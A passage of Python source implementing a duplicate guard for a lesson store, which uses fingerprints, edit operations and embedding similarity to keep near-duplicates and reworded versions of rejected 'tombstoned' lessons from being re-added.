) -> bool:
    """Does the rejected lesson's tombstone keep the candidate out? A near duplicate, one
    carrying its payload, or one reworded with a word of another language."""
    if is_duplicate(candidate, rejected, threshold, meaning=meaning):
        return True
    if carries_payload(candidate, rejected):
        return True
    if meaning is None:
        meaning = meaning_similarity(candidate, rejected)
    return reworded_in_another_language(candidate, rejected, meaning)


def _occurs_in_order(span: Sequence[int], words: Sequence[int]) -> bool:
    """`span` appears in `words` in order, within len(span) + SPAN_SLACK consecutive words."""
    width = len(span) + SPAN_SLACK
    for start, word in enumerate(words):
        if word != span[0]:
            continue
        rest = iter(words[start + 1 : start + width])
        if all(any(w == want for w in rest) for want in span[1:]):
            return True
    return False


def _one_word_swapped(a: tuple[int, ...], b: tuple[int, ...]) -> bool:
    """Same wording but for content words swapped in place (pnpm/yarn, main/release), or one
    slot of up to SLOT_WORDS words replaced: most often a different lesson about a different
    thing. Symmetric: either lesson may be the one read first."""
    return _slot_replaced(a, b) or _slot_replaced(b, a)


def _slot_in_frame(a: tuple[int, ...], b: tuple[int, ...]) -> bool:
    """The same words at both ends, covering at least `FRAME_SHARE` of the shorter lesson,
    around a middle each fills differently ("Invalidate the CDN cache after every frontend
    deploy" / "... after every backend config change"): the frame makes their meanings close,
    the slot makes them different lessons. A rewording moves words about instead."""
    n = min(len(a), len(b))
    head = next((i for i in range(n) if a[i] != b[i]), n)
    tail = next((i for i in range(n - head) if a[-1 - i] != b[-1 - i]), n - head)
    if head + tail >= len(a) or head + tail >= len(b):
        return False  # one holds the other whole: words added, none replaced
    return head + tail >= FRAME_SHARE * n


def _slot_replaced(a: tuple[int, ...], b: tuple[int, ...]) -> bool:
    ops = Levenshtein.editops(a, b)
    if len(a) == len(b) and 0 < len(ops) <= 2 and all(op.tag == "replace" for op in ops):
        return True  # one word, or two words in two places, swapped (`npm ci` / `npm install`)
    if not ops or len(ops) > SLOT_WORDS or not any(op.tag == "replace" for op in ops):
        return False
    first, last = min(op.src_pos for op in ops), max(op.src_pos for op in ops)
    return last - first < SLOT_WORDS and len(a) > SLOT_WORDS and len(b) > SLOT_WORDS


# -- the guard ---------------------------------------------------------------------------


class Known(msgspec.Struct, frozen=True):
    """Something a candidate must not duplicate: an entry or a tombstone."""

    kind: str
    """approved | pending | quarantined | archived | team-approved | tombstone | batch"""
    ref: str
    """The entry id (the caller's own or team-visible), or a tombstone id."""
    fingerprint: Fingerprint


class DuplicateGuard:
    """Holds what a candidate must not duplicate; answers with the first match.

    A tombstone matches a near-duplicate and, beyond that, any candidate that carries its
    payload (`carries_payload`): rejected content does not come back in other words.
    """

    def __init__(self, known: Iterable[Known] = (), threshold: float = NEAR_THRESHOLD) -> None:
        self.threshold = threshold
        self._known: list[Known] = list(known)
        self._exact = {k.fingerprint.exact: k for k in self._known}
        self._meanings: Any = None  # numpy rows of the known meanings, built on first need
        self._model = b""  # the model those rows are comparable with

    def match(self, fp: Fingerprint) -> Known | None:
        hit = self._exact.get(fp.exact)
        if hit is not None:
            return hit
        cosines = self._cosines(fp)
        for i, k in enumerate(self._known):
            if k.kind == "tombstone":
                if refused_by_tombstone(fp, k.fingerprint, self.threshold, meaning=cosines[i]):
                    return k
            elif is_duplicate(fp, k.fingerprint, self.threshold, meaning=cosines[i]):
                return k
        return None

    def _cosines(self, fp: Fingerprint) -> Sequence[float]:
        """The candidate's meaning against every known one, in one product (0.0 where either
        has none)."""
        if not fp.meaning:
            return [0.0] * len(self._known)
        model = meanings.model_of(fp.meaning)
        if self._meanings is None or self._model != model:  # one model per process, as a rule
            known = [k.fingerprint.meaning for k in self._known]
            self._meanings, self._model = meanings.matrix(known, like=fp.meaning), model
        return (self._meanings @ meanings.decode(fp.meaning)).tolist()

    def add(self, known: Known) -> None:
        self._known.append(known)
        self._exact.setdefault(known.fingerprint.exact, known)
        self._meanings = None

    def __len__(self) -> int:
        return len(self._known)
